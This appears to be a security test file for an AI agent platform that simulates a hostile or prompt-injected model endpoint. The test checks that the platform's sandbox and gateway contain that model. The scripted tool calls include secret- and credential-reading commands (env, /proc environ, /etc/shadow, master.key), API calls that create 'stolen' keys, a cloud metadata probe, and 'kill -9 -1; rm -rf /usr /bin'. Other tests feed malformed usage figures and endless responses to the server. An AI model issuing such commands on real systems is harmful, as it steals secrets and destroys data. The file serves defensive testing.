"""Boundary: what a model responds. The attacker is the model, or whoever writes its responses (a prompt injection that took it
over, a hostile endpoint). The worker is the weakest imaginable harness: it runs every tool call as a shell command and sends the
output back, so what the attacker sees is what its endpoint receives."""

import json

from attack import assert_unseen, canary, tree
from network import Upstream
from runs import Shop
from server import Client, wait_until
from telemetry import otlp_json

# Inside the sandbox. Ends when the model calls no tool, or when the gateway does not answer with one.
AGENT = r"""
import json, subprocess, urllib.request
messages = [{"role": "user", "content": "go"}]
for turn in range(40):
    body = json.dumps({"model": "m", "max_tokens": 100, "messages": messages}).encode()
    request = urllib.request.Request("http://127.0.0.1:3129/anthropic/v1/messages", body, {"content-type": "application/json"})
    try:
        answer = json.load(urllib.request.urlopen(request, timeout=120))
    except Exception as error:  # whatever a response does to the reader of it
        print("no answer:", type(error).__name__, getattr(error, "code", ""), flush=True)
        break
    calls = [block for block in answer.get("content", []) if isinstance(block, dict) and block.get("type") == "tool_use"]
    if not calls:
        print("the end", flush=True)
        break
    messages.append({"role": "assistant", "content": answer["content"]})
    results = []
    for call in calls:
        done = subprocess.run(["/bin/sh", "-c", call["input"]["command"]], capture_output=True, text=True, errors="replace", timeout=60)
        results.append({"type": "tool_result", "tool_use_id": call["id"], "content": (done.stdout + done.stderr)[:20000]})
    messages.append({"role": "user", "content": results})
"""


class HostileModel:
    """A model endpoint behind TLS that responds with `answers`, one after the other; the last one again and again."""

    def __init__(self, binary, stack, answers, **variables):
        self.answers, self.key = list(answers), canary("sk")
        self.upstream = Upstream(stack, self.answer)
        self.shop = Shop(binary, stack, "--egress-ca-file", str(self.upstream.certificate))
        self.skill = self.shop.client.must("POST", "/v1/skills", {
            "name": "model", "type": "model", "secrets": {"API_KEY": self.key},
            "variables": {"PROTOCOL": "anthropic", "BASE_URL": self.upstream.url, "ALLOW_PRIVATE": "true"} | variables}).data["id"]

    def answer(self, handler):
        chosen = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
        return chosen(handler) if callable(chosen) else chosen

    def run(self, **settings):
        settings = {"skills": [self.skill]} | settings
        return self.shop.until(self.shop.start("/usr/bin/python3", "-c", AGENT, **settings)["id"])

    def received(self):
        return b"\n".join(body for _, _, _, body in self.upstream.seen)


def response(content, **usage):
    body = {"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "stop_reason": "end_turn", "content": content,
            "usage": {"input_tokens": 10, "output_tokens": 10} | usage}
    return 200, [("Content-Type", "application/json")], json.dumps(body).encode()


def calls(*commands):
    return response([{"type": "tool_use", "id": f"call_{number}", "name": "bash", "input": {"command": command}}
                     for number, command in enumerate(commands)])


END = response([{"type": "text", "text": "done"}])


def test_a_model_whose_every_tool_call_is_run_reads_the_host_other_projects_and_secrets(binary, stack):
    """Gain: in its own context, and so at its endpoint: files of the host, the key of the model itself, texts of another project;
    and actions that need a person: an approval, a key, a change of its own preset."""
    model = HostileModel(binary, stack, [END])
    shop, hidden, token = model.shop, canary("project"), canary("token")
    data = shop.server.data_dir
    (data / "canary").write_text(hidden)
    shop.client.must("POST", "/v1/projects", {"name": "other"})
    key = shop.client.must("POST", "/v1/keys", {"name": "sender"}).data["key"]
    Client(shop.server.url, key).must("POST", "/v1/traces", otlp_json([(1, 1, 0, hidden, {"note": hidden})], "other"))
    wait_until(lambda: hidden in shop.client.get("/v1/projects/other/span_rows?limit=10").text, "the span is stored")
    pager = shop.client.must("POST", "/v1/skills", {"name": "pager", "type": "custom", "secrets": {"PAGER": token}, "declared": [
        {"name": "PAGER", "secret": True, "header": "x-key", "hosts": [{"host": "pager.example.com"}]}]}).data["id"]
    before = tree(data / "sandbox/base")
    api = "http://127.0.0.1:3129/api/v1"
    model.answers = [
        calls("echo inside-$((40 + 2))", "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'"),
        calls(f"cat {data}/canary {data}/master.key {data}/hone.db; ls -laR {data} /root /home | head -50",
              "cat /etc/shadow; ls -L /proc/1/root; mount; cat /proc/1/maps | head -3"),
        calls("hone query_sql --sql 'SELECT input, name, attributes FROM spans'", "hone search_spans --project other",
              f"curl -s {api}/projects/other/span_rows?limit=10; curl -s {api}/skills; curl -s {api}/keys; curl -s {api}/audit"),
        calls(f"curl -s -X POST -d '{{\"name\":\"stolen\"}}' -H 'content-type: application/json' {api}/keys",
              f"curl -s -X PATCH -d '{{}}' -H 'content-type: application/json' {api}/spaces/default",
              f"curl -s -X POST -d '{{\"name\":\"pwned\"}}' -H 'content-type: application/json' {api}/projects"),
        calls(f"curl -s -m 5 https://{model.upstream.place}/out?x=1 -k; curl -s -m 5 http://169.254.169.254/; getent hosts example.com",
              "kill -9 -1; rm -rf /usr /bin 2>&1 | tail -1; echo alive"),
        END]
    run = model.run(skills=[model.skill, pager], sandbox={"network": "none"})
    received = model.received()
    assert b"inside-42" in received and run["state"] in ("succeeded", "failed"), (run, shop.texts(run["id"]))  # the control: it is in control
    assert not any(path.startswith("/out") for _, path, _, _ in model.upstream.seen), "the worker reached out"
    for secret in (hidden, model.key, token):
        assert_unseen(secret, received)
    assert b"root:$" not in received and b"root:*:" not in received
    # What the victim lost: nothing.
    assert tree(data / "sandbox/base") == before
    assert [each["name"] for each in shop.client.must("GET", "/v1/keys").data].count("stolen") == 0
    assert "pwned" not in shop.client.must("GET", "/v1/projects").text
    assert shop.client.get("/v1/me").status == 200


def test_a_model_response_is_malformed_or_lies_about_what_it_used(binary, stack):
    """Gain: a budget that never ends, because the response reports negative use; or a server that fails on what it reads."""
    text = [{"type": "text", "text": "x"}]
    deep = b"[" * 200_000
    broken = [response(text, input_tokens=-1_000_000_000, output_tokens=-1_000_000_000),
              response(text, input_tokens=1e99, output_tokens="NaN", cache_read_input_tokens=-5),
              response(text, input_tokens=2**63, output_tokens=None),
              (200, [("Content-Type", "application/json")], b'{"usage":' + deep),
              (200, [("Content-Type", "application/json")], b"\xff\xfe\x00{"),
              (200, [("Content-Type", "text/event-stream")], b"data: {\n\ndata: [DONE]\n\nevent: \x00\n\n" + b"data: " + b"x" * 3_000_000),
              (999, [], b""), (200, [("Content-Encoding", "gzip"), ("Content-Type", "application/json")], b"\x1f\x8bnot gzip")]
    model = HostileModel(binary, stack, broken + [END], PRICES="m 1 1")
    for _ in range(len(broken) + 1):
        run = model.run(budget={"tokens": 1_000_000})
        usage = model.shop.client.must("GET", f"/v1/runs/{run['id']}").data
        assert usage["state"] == "succeeded", (usage, model.shop.texts(run["id"]))
        for name, value in (usage.get("usage") or {}).items():
            assert not isinstance(value, (int, float)) or value >= 0, (name, value)
    assert len(model.upstream.seen) == len(broken) + 1, len(model.upstream.seen)
    assert_unseen(model.key, "\n".join(model.shop.texts(run["id"])))
    assert model.shop.client.get("/v1/me").status == 200
    # The budget still ends: a model that reports nothing of its use is charged by its size.
    endless = HostileModel(binary, stack, [response([{"type": "tool_use", "id": "c", "name": "bash", "input": {"command": "true"}}],
                                                    input_tokens=-10**9, output_tokens=-10**9)], PRICES="m 1 1")
    ended = endless.run(budget={"tokens": 20_000})
    assert len(endless.upstream.seen) < 40, "a negative use gave the budget back"
    assert ended["state"] == "budget_stopped", ended


def test_a_model_response_is_endless(binary, stack):
    """Gain: the memory of the server, or its disk, with one response that does not stop."""
    def pour(handler):
        handler.send_response(200)
        handler.send_header("Content-Type", "text/event-stream")
        handler.send_header("Transfer-Encoding", "chunked")
        handler.end_headers()
        piece = b"data: " + b"x" * 65530
        try:
            for _ in range(4000):  # 250 MiB in one line of an event
                handler.wfile.write(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")
        except OSError:
            pass  # the gateway hung up
        handler.close_connection = True
        return 200, [], b""
    model = HostileModel(binary, stack, [pour])
    def resident():
        status = open(f"/proc/{model.shop.server.process.pid}/status").read()
        return int(status.split("VmRSS:")[1].split()[0]) >> 10
    before = resident()
    model.run(sandbox={"memory_bytes": 1 << 30})
    assert model.upstream.seen, "control: the request arrived"
    assert resident() < before + 200, f"the server grew from {before} to {resident()} MiB"
    assert model.shop.client.get("/v1/me").status == 200
